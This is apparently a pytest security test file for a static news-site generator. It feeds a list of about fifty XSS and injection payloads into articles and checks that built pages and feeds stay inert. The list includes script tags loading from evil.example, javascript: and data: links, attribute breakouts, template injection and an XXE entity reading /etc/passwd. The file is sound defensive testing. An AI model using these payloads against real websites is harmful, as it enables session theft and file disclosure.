"""Nothing that stands in an article does anything but stand there."""

from __future__ import annotations

import html
import json
import re
from datetime import datetime
from xml.etree import ElementTree

import html5lib  # type: ignore[import-untyped]
import pytest

from tests.publish.builds import WIB, article, build
from tests.publish.web import Page, read_pages

ATOM = "{http://www.w3.org/2005/Atom}"

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "end of script": "</script><script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "comment and script": "<!--<script>alert(1)</script>-->",
    "comment that opens a script": "<!-- <script> -->",
    "halved script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script halved by a comment": "<scr<!-- x -->ipt>alert(1)</scr<!-- x -->ipt>",
    "image with handler": '<img src=x onerror="alert(1)">',
    "handler without spaces": "<img/src=x/onerror=alert(1)>",
    "svg with handler": "<svg onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "form": '<form action="https://evil.example"><input name=nik></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "attribute broken out of": '" onmouseover="alert(1)" x="',
    "attribute with apostrophes": "' onmouseover='alert(1)' x='",
    "javascript link": "[klik](javascript:alert(1))",
    "javascript link in mixed case": "[klik](JaVaScRiPt:alert(1))",
    "javascript link in entities": "[klik](&#106;&#97;vascript&#58;alert(1))",
    "javascript link in hex entities": "[klik](&#x6A;avascript&colon;alert(1))",
    "javascript link with a tab": "[klik](java\tscript:alert(1))",
    "javascript link with an escaped tab": "[klik](java&#9;script:alert(1))",
    "javascript link with a line break": "[klik](<java\nscript:alert(1)>)",
    "javascript link after control characters": "[klik](\x01\x02javascript:alert(1))",
    "javascript link after a space": "[klik](<  javascript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript image": "![x](javascript:alert(1))",
    "javascript reference": "[klik][r]\n\n[r]: javascript:alert(1)",
    "vbscript link": "[klik](vbscript:msgbox(1))",
    "data link": "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image with svg": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "link with a title that breaks out": '[klik](https://a.id "x\\" onclick=\\"alert(1)")',
    "link with an address that breaks out": '[klik](https://a.id/"onclick="alert(1))',
    "alternative text that breaks out": '![" onerror="alert(1)](x.png)',
    "language of code that breaks out": '```x" onclick="alert(1)\nkode\n```',
    "footnote that breaks out": 'a[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    "end of data": "]]><script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double entity": "&amp;lt;script&amp;gt;",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ page.title|safe }}",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "line separators": "a\u2028b\u2029c",
    "terminal colours": "\x1b[31mmerah\x1b[0m \x1b]8;;https://evil.example\x07klik\x1b]8;;\x07",
    "control characters": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, 0x9B])),
    "characters that are none": "\ufffe\uffff\ufdd0",
    "surrogate entity": "&#xD800;&#0;",
}  # fmt: skip

FORBIDDEN_ELEMENTS = {
    "iframe", "object", "embed", "form", "input", "button", "style", "base", "svg", "math",
    "audio", "video", "frame", "applet", "template",
}  # fmt: skip
SCHEMES = ("https:", "http:", "mailto:", "tel:", "/", "#")


def has_no_effect(page: Page) -> None:
    for item in page.root.iter():
        assert str(item.tag) not in FORBIDDEN_ELEMENTS
        assert item.tag != "script" or item.attrib == {"type": "application/ld+json"}
        assert item.tag != "meta" or item.get("http-equiv", "").lower() != "refresh"
        for name in item.attrib:
            assert not name.lower().startswith("on")
            assert name not in {"style", "srcdoc", "formaction", "xlink:href"}
    for address in page.addresses:
        reduced = re.sub(r"[\x00-\x20]", "", address).lower()
        assert reduced.startswith(SCHEMES) or ":" not in reduced.partition("/")[0], address


def one_line(text: str) -> str:
    kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0\ufffe\uffff]", "", text)
    return " ".join(kept.split())


@pytest.fixture(params=PAYLOADS.values(), ids=list(PAYLOADS), scope="module")
def payload(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="module")
def files(payload: str) -> dict[str, bytes]:
    line = " ".join(payload.split("\n"))
    return build(
        [
            article(
                "serangan",
                f"{payload}\n\nIsi {payload}\n\n- {payload}\n\n|a|\n|-|\n|{line}|\n",
                title=f"Judul {line}",
                summary=f"Ringkasan {line}",
                author=f"Penulis {line}",
                tags=[f"tag {line}"],
                corrections=[{"date": datetime(2022, 4, 21, tzinfo=WIB), "text": f"Ralat {line}"}],
            )
        ]
    )


def test_no_page_does_anything(files: dict[str, bytes]) -> None:
    for page in read_pages(files).values():
        has_no_effect(page)


def test_titles_are_shown_as_they_are_everywhere(files: dict[str, bytes], payload: str) -> None:
    title = one_line(f"Judul {payload}")
    page = read_pages(files)["berita/2022/serangan/index.html"]
    assert page.heading == page.meta("og:title") == title
    assert page.title == f"{title} - KPU Kota Contoh"
    assert page.json_ld[0]["headline"] == title
    assert json.loads(files["umpan.json"])["items"][0]["title"] == title
    assert ElementTree.fromstring(files["umpan.atom"]).findtext(f"{ATOM}entry/{ATOM}title") == title


def test_what_feeds_carry_does_nothing_either(files: dict[str, bytes]) -> None:
    atom = ElementTree.fromstring(files["umpan.atom"])
    contents = [
        json.loads(files["umpan.json"])["items"][0]["content_html"],
        atom.findtext(f"{ATOM}entry/{ATOM}content") or "",
    ]
    assert contents[0] == contents[1]
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    for content in contents:
        has_no_effect(Page("umpan", f"<!DOCTYPE html><title>x</title><body>{content}"))
        parser.parseFragment(content)


def test_no_file_has_a_control_character(files: dict[str, bytes]) -> None:
    for path, content in files.items():
        if path.endswith(".png"):
            continue
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufdd0\ufffe\uffff]", content.decode()), (
            path
        )


def test_no_file_of_this_machine_is_read(files: dict[str, bytes]) -> None:
    assert all(b"root:" not in content for content in files.values())


def test_the_words_around_a_payload_stay(files: dict[str, bytes]) -> None:
    page = read_pages(files)["berita/2022/serangan/index.html"]
    assert "Ringkasan" in (page.meta("description") or "")
    assert "Ralat" in html.unescape(page.text)
